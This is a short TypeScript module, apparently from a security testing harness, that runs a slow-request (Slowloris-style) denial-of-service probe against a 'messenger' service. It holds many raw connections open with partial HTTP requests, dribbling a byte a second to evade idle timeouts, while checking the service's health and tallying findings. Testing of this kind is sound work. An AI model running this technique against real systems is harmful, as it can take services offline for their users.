import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { type Finding, Tally } from "./finding.ts";
import type { Target } from "./target.ts";

/** Longer than the messenger allows for a request to arrive. */
const limitMs = 20_000;

const heads = [
  "POST /messages HTTP/1.1\r\nhost: messenger\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{",
  "POST /console/login HTTP/1.1\r\nhost: messenger\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 1000\r\n\r\nu",
  "GET /health HTTP/1.1\r\nhost: mess",
];

/** Sends a byte a second, which no idle timeout notices. @returns what fell. */
const dribble = async (socket: Socket, head: string): Promise<string | undefined> => {
  socket.on("error", () => {}).resume();
  if (!(await once(socket, "connect").catch(() => undefined))) return "a connection is refused";
  socket.write(head);
  const timer = setInterval(() => socket.write("a"), 1_000);
  const fell = await Promise.race([
    once(socket, "close").then(() => undefined),
    new Promise<string>((resolve) => setTimeout(resolve, limitMs, "a connection is still open").unref()),
  ]);
  clearInterval(timer);
  socket.destroy();
  return fell;
};

/** Opens connections to the messenger that never send a whole request, while its health is read. */
export const attackSlowly = async ({ city }: Target, count: number): Promise<Finding[]> => {
  if (!city?.messenger) return [];
  const tally = new Tally("connections that send a byte a second");
  const { hostname, port } = new URL(city.messengerUrl);
  const slow = Array.from({ length: count }, (_, i) =>
    dribble(connect(Number(port), hostname), heads[i % heads.length] ?? ""),
  );
  const health = await fetch(`${city.messengerUrl}/health`).catch(() => undefined);
  if (!health?.ok) tally.count("the messenger's health cannot be read meanwhile");
  for (const fell of await Promise.all(slow)) tally.count(fell);
  return [tally.finding];
};
